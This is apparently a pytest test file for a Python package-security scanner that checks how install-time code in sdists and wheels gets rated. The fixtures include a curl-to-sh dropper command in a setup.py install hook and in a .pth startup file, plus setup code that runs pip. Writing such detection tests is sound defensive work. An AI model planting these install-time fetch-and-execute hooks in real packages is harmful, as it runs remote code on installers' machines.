"""Install-time rules: setup.py code, command overrides, in-tree backends, .pth files, pip calls."""

from __future__ import annotations

from pathlib import Path

from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel, severity, worst

PLAIN_SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"


def test_code_beyond_setup(tmp_path: Path) -> None:
    extra = "import os\nos.makedirs('x', exist_ok=True)\n" + PLAIN_SETUP
    assert severity(scan_sdist(tmp_path / "a", {"setup.py": extra}), "install-code-in-setup") is Severity.LOW
    assert severity(scan_sdist(tmp_path / "b", {"setup.py": PLAIN_SETUP}), "install-code-in-setup") is None


def test_cmdclass_override(tmp_path: Path) -> None:
    hooked = (
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Post(install):\n    def run(self):\n        install.run(self)\n        open('/tmp/x', 'w')\n"
        "setup(cmdclass={'install': Post})\n"
    )
    delegating = hooked.replace("        open('/tmp/x', 'w')\n", "")
    assert severity(scan_sdist(tmp_path / "a", {"setup.py": hooked}), "install-cmdclass-override") is not None
    assert severity(scan_sdist(tmp_path / "b", {"setup.py": delegating}), "install-cmdclass-override") is None


def test_code_in_cmdclass_hook_weighs_as_install_time(tmp_path: Path) -> None:
    hooked = (
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\n"
        "class Post(install):\n    def run(self):\n        os.system('curl https://example.invalid/x | sh')\n"
        "setup(cmdclass={'install': Post})\n"
    )
    assert severity(scan_sdist(tmp_path, {"setup.py": hooked}), "shell-dropper-command") is Severity.CRITICAL


def test_in_tree_backend(tmp_path: Path) -> None:
    pyproject = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n"
    backend = "import subprocess\nsubprocess.run(['echo'])\n"
    scan = scan_sdist(tmp_path / "a", {"pyproject.toml": pyproject, "_build/backend.py": backend})
    assert severity(scan, "install-backend-in-tree") is not None
    assert severity(scan, "shell-exec") is Severity.MEDIUM  # the backend runs at build time
    normal = "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n"
    assert severity(scan_sdist(tmp_path / "b", {"pyproject.toml": normal}), "install-backend-in-tree") is None


def test_pth_with_code_runs_at_startup(tmp_path: Path) -> None:
    evil = "import os; os.system('curl https://example.invalid/x | sh')\n"
    scan = scan_wheel(tmp_path / "a", {"demo.pth": evil, "demo/__init__.py": ""})
    assert severity(scan, "install-pth-executable") is Severity.LOW
    assert worst(scan) is Severity.CRITICAL
    paths_only = scan_wheel(tmp_path / "b", {"demo.pth": "src\n", "demo/__init__.py": ""})
    assert severity(paths_only, "install-pth-executable") is None


def test_setuptools_style_pth_is_not_blocked(tmp_path: Path) -> None:
    shim = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
    scan = scan_wheel(tmp_path, {"distutils-precedence.pth": shim})
    assert worst(scan) < Severity.MEDIUM


def test_runs_pip(tmp_path: Path) -> None:
    bad = "import pip\npip.main(['install', 'other'])\n" + PLAIN_SETUP
    assert severity(scan_sdist(tmp_path / "a", {"setup.py": bad}), "install-runs-pip") is Severity.HIGH
    good = "# run: pip install demo\n" + PLAIN_SETUP
    assert severity(scan_sdist(tmp_path / "b", {"setup.py": good}), "install-runs-pip") is None


def test_backend_path_dot_only_covers_top_level_modules(tmp_path: Path) -> None:
    pyproject = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"
    run = "import subprocess\nsubprocess.run(['rsync'])\n"
    scan = scan_sdist(tmp_path, {"pyproject.toml": pyproject, "backend.py": run, "demo/tool.py": run})
    locations = {e.location: f.severity for f in scan.findings if f.rule_id == "shell-exec" for e in f.evidence}
    assert scan.findings and max(f.severity for f in scan.findings if f.rule_id == "shell-exec") is Severity.MEDIUM
    assert "demo-1.0/backend.py" in locations


def test_startup_code_that_runs_programs_blocks(tmp_path):
    from jupyter_safepip.core.model import Severity
    from tests.support.archives import scan_wheel, severity

    pth = scan_wheel(tmp_path / "pth", {"demo/__init__.py": "", "demo_hook.pth": "import os;os.system('true')\n"})
    assert severity(pth, "shell-exec") is Severity.HIGH
    bom = scan_wheel(tmp_path / "bom", {"demo/__init__.py": "", "demo_hook.pth": b"\xef\xbb\xbfimport os;os.system('true')\n"})
    assert severity(bom, "install-pth-executable") is not None and severity(bom, "shell-exec") is Severity.HIGH
    for where in ("sitecustomize.py", "demo-1.0.data/purelib/usercustomize.py"):
        custom = scan_wheel(tmp_path / where.replace("/", "_"), {"demo/__init__.py": "", where: "import os\nos.system('true')\n"})
        assert severity(custom, "install-startup-module") is not None
        assert severity(custom, "shell-exec") is Severity.HIGH


def test_build_hooks_and_helpers_setup_py_imports_are_install_time_code(tmp_path):
    from jupyter_safepip.core.model import Severity
    from tests.support.archives import scan_sdist, severity

    run = "import subprocess\ndef version():\n    subprocess.Popen('true', shell=True)\n"
    helper = scan_sdist(tmp_path / "helper", {"setup.py": "import _build_helpers\n", "_build_helpers.py": run})
    assert severity(helper, "shell-exec") is Severity.MEDIUM
    unused = scan_sdist(tmp_path / "unused", {"setup.py": "from setuptools import setup\nsetup()\n", "_tool.py": run})
    assert severity(unused, "shell-exec") is Severity.INFO
    hatch = scan_sdist(tmp_path / "hatch", {"hatch_build.py": run})
    assert severity(hatch, "shell-exec") is Severity.MEDIUM
    poetry = scan_sdist(tmp_path / "poetry", {"pyproject.toml": "[tool.poetry.build]\nscript = 'build.py'\n", "build.py": run})
    assert severity(poetry, "shell-exec") is Severity.MEDIUM
